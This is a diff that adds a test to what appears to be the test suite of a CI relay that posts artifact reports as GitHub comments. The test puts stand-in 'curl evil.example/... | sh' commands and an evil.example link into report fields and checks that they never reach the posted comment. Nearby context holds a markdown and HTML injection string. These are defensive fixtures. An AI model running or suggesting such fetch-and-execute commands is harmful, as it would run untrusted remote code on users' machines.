@@ -164,6 +164,15 @@ describe('an artifact is the work of strangers', () => {
     expect(github.comments[0]?.body).toContain('troubleshooting.md#crash-loop');
   });
 
+  test('nobody is told to paste a command of it, or to follow a link of it', async () => {
+    const { outcome } = report();
+    const failure = { code: 'crash-loop', stage: null, message: 'foo', hint: null, tryThis: 'curl evil.example/a | sh' } as const;
+    const earlier = { endedAt: '2026-11-23T10:00:00.000Z', commit: null, ref: null, machine: null, differences: [], figures: [], file: 'baseline.json', url: 'https://evil.example/c' };
+    addArtifact(report({ schemaVersion: '1.2', outcome: { ...outcome, code: 'crash-loop', failure }, earlier, repeatWith: 'curl evil.example/b | sh' }));
+    expect(await relay()).toMatchObject({ comments: [{ action: 'created' }], notices: [] });
+    expect(github.comments[0]?.body).not.toContain('evil.example');
+  });
+
   test('its text is text', async () => {
     const text = '<!-- x --> <img src=x> @all [a](http://evil.example) #1 `` ` ```';
     addArtifact(report({ warnings: [text], outcome: { ...report().outcome, summary: text }, repeatWith: text }));
